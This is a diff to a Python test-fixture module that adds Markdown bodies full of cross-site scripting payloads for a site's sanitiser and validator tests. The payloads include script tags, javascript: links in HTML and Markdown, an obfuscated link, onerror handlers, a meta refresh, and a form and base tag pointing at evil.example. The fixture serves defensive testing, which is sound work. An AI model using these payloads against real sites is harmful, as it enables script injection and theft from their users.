@@ -4,7 +4,9 @@ injection payload. Built by the hostile-input tests (in the browser and without 
 Each payload names itself in its `alert(...)`, so a dialog that fires says which one ran.
 Initiative `hostile-<key>` carries payload `<key>` in every text field; `hostile-all` carries
 all of them at once; `hostile-i18n` carries them in `{en, sv}` mappings. `refused-*` entries
-carry URLs a browser would run: the validator must refuse them.
+carry URLs a browser would run: the validator must refuse them. `hostile-body` carries
+`BODY_PAYLOADS` in its Markdown body (raw HTML and Markdown links): the sanitiser must take
+each out, and `portfolio validate` warn about each at its line.
 """
 
 from __future__ import annotations
@@ -34,6 +36,26 @@ REFUSED_URLS = {
     "tab": "java\tscript:alert('refused-tab')",
     "space": " javascript:alert('refused-space')",
 }
+# Raw HTML and Markdown in an initiative's body, one per line of `BODY` (after its first).
+# What the sanitiser leaves of them must trip no check below (no `img[src=x]`, no `<svg>`).
+BODY_PAYLOADS: dict[str, str] = {
+    "script": "<script>alert('body-script')</script>",
+    "iframe": "<iframe src=\"javascript:alert('body-iframe')\"></iframe>",
+    "onerror": "<p>An <span onmouseover=\"alert('body-span')\">element</span> with a handler "
+               "and <audio src=\"x\" onerror=\"alert('body-onerror')\"></audio></p>",
+    "img-onerror": "<img src=\"photo.png\" alt=\"A photo\" onerror=\"alert('body-img')\">",
+    "data-url": "<a href=\"data:text/html,<script>alert('body-data')</script>\">data</a>",
+    "form": "<form action=\"https://evil.example/\"><input name=\"q\"><button>Go</button></form>",
+    "object": "<object data=\"movie.swf\"></object><embed src=\"movie.swf\">",
+    "md-link": "[a Markdown link](javascript:alert('body-md-link'))",
+    "md-image": "![a Markdown image](javascript:alert('body-md-image'))",
+    "obfuscated": "[an obfuscated link](JaVaScRiPt&#58;alert('body-obfuscated'))",
+    "style": "<p style=\"background: url(javascript:alert('body-style'))\">Styled</p>",
+    "meta": "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('body-meta')\">",
+    "base": "<base href=\"https://evil.example/\">",
+}
+BODY = "The body of hostile-body, with hostile HTML and Markdown on each line below.\n\n" + \
+    "\n\n".join(BODY_PAYLOADS.values()) + "\n"
 ALL = " ".join(PAYLOADS.values())
 # All the payloads that fit in a summary (at most 300 characters).
 SHORT_ALL = " ".join(PAYLOADS[k] for k in ("script", "close-script", "img", "attr", "svg",
@@ -226,6 +248,8 @@ def files() -> dict[str, Any]:
         result[f"content/initiatives/hostile-{key}.md"] = _page(
             initiative(key, FACETS[index % 4], ZONES[index % 3]),
             body=f"The body of hostile-{key}, written as plain Markdown.\n")
+    result["content/initiatives/hostile-body.md"] = _page(
+        initiative("script", "adaptive", "yellow"), body=BODY)
     result["content/initiatives/hostile-i18n.md"] = _page(
         initiative("all", "anticipatory", "green", translated=True))
     result["content/initiatives/refused-javascript.md"] = _page(refused_initiative())
